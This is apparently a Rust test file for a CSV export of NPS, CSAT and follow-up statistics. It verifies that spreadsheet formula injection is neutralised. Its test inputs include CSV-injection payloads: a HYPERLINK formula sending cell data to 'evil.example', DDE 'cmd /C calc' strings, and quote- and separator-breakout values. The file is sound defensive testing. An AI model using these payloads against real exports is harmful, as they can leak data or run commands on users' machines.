use chrono::NaiveDate;

use super::*;
use crate::{
    domain::follow_up::Figures,
    domain::scores::{Tally, scores},
    http::api::scores::{Group, Key, Ranking},
};

/// What a spreadsheet or any RFC 4180 reader takes a line for.
fn read_line(line: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(line.as_bytes());
    let record = reader.records().next().expect("one record").unwrap();
    assert!(reader.records().next().is_none(), "{line:?} is one record");
    record.iter().map(str::to_owned).collect()
}

#[test]
fn every_formula_start_gets_a_quote_and_the_cell_is_quoted() {
    for value in [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=",
    ] {
        let cell = text_cell(value);
        assert!(cell.starts_with("\"'"), "{value:?} → {cell}");
        assert!(cell.ends_with('"'), "{value:?} → {cell}");
        assert_eq!(
            read_line(&cell),
            [format!("'{value}")],
            "{value:?} → {cell}"
        );
    }
}

#[test]
fn a_harmless_value_reads_back_unchanged() {
    for value in [
        "agent-7",
        "payment",
        "客服-退款",
        "a=b",
        "1+1",
        "'quoted already",
        " =leading space",
        "",
    ] {
        let cell = text_cell(value);
        assert_eq!(cell, format!("\"{value}\""));
        assert_eq!(read_line(&cell), [value], "{value:?} → {cell}");
    }
}

#[test]
fn a_separator_or_quote_inside_cannot_start_a_new_cell() {
    for value in ["a,=1+1", "a;=1+1", "a\",=1+1", "a\"\n=1+1", "=1+2\";=1+2"] {
        let cell = text_cell(value);
        let fields = read_line(&format!("{cell},7"));
        assert_eq!(fields.len(), 2, "{value:?} → {cell}");
        assert_eq!(fields[1], "7");
        assert!(fields[0].ends_with("=1+1") || fields[0].ends_with("=1+2"));
        // What the `;`-separated reading of some locales sees: the cell is still one field.
        let line = format!("{cell};7");
        let mut semicolons = csv::ReaderBuilder::new()
            .has_headers(false)
            .delimiter(b';')
            .from_reader(line.as_bytes());
        let record = semicolons.records().next().unwrap().unwrap();
        assert_eq!(record.len(), 2, "{value:?} → {cell}");
    }
}

fn body(agent: &str, queue: &str, tally: Tally) -> Body {
    Body {
        from: "2026-11-01".parse().unwrap(),
        to: "2026-11-02".parse().unwrap(),
        group_by: vec!["agent", "queue", "day"],
        groups: vec![Group {
            key: Key {
                agent_id: Some(agent.into()),
                queue: Some(queue.into()),
                day: NaiveDate::from_ymd_opt(2026, 11, 1),
            },
            scores: scores(&tally),
            follow_up: Figures::default(),
        }],
        ranking: Ranking { min_answers: 10 },
    }
}

async fn text(response: Response) -> String {
    let bytes = axum::body::to_bytes(response.into_body(), 1 << 20)
        .await
        .unwrap();
    String::from_utf8(bytes.to_vec()).unwrap()
}

#[tokio::test]
async fn csv_has_a_header_and_empty_fields_for_nulls() {
    let mut only_agent = body(
        "a,1",
        "q",
        Tally {
            sent: 2,
            responses: 1,
            ..Default::default()
        },
    );
    only_agent.group_by = vec!["agent"];
    let text = text(response(&only_agent, &[Dimension::Agent]).unwrap()).await;
    let mut lines = text.lines();
    let header = lines.next().unwrap();
    assert!(header.starts_with("agent_id,sent,delivered,responses,response_rate,csat_n"));
    assert_eq!(header.split(',').count(), 30);
    assert!(
        header.ends_with(
            ",sms_segments,segments_per_response,follow_up_detractors,follow_up_contacted,\
             follow_up_resolved,follow_up_median_hours_to_contact"
        ),
        "{header}"
    );
    let row = lines.next().unwrap();
    // The comma in the agent id is quoted; csat has n = 0 so its score is empty, not 0.
    assert!(row.starts_with("\"a,1\",2,0,1,0.5,0,0,,,,,0,"), "{row}");
    // No segments for one response: 0 per response (with none it would be empty); no
    // case, so no median.
    assert!(row.ends_with(",0,0,0,0,0,"), "{row}");
    assert_eq!(lines.next(), None);
}

#[tokio::test]
async fn hostile_keys_are_inert_and_negative_figures_stay_numbers() {
    let detractors = Tally {
        sent: 5,
        responses: 5,
        nps_n: 5,
        promoters: 1,
        detractors: 3,
        ..Default::default()
    };
    let by = [Dimension::Agent, Dimension::Queue, Dimension::Day];
    let text = text(response(&body("=HYPERLINK(\"x\")", "-queue", detractors), &by).unwrap()).await;
    let row = text.lines().nth(1).unwrap();
    assert!(
        row.starts_with("\"'=HYPERLINK(\"\"x\"\")\",\"'-queue\",2026-11-01,5,"),
        "{row}"
    );
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header = reader.headers().unwrap().clone();
    let record = reader.records().next().unwrap().unwrap();
    let field = |name: &str| &record[header.iter().position(|h| h == name).unwrap()];
    assert_eq!(field("nps_score"), "-40");
    assert!(field("nps_ci95_low").starts_with('-'), "{record:?}");
    assert!(field("nps_ci95_low").parse::<f64>().is_ok(), "{record:?}");
    assert!(row.contains(",-40,"), "a bare number: {row}");
}
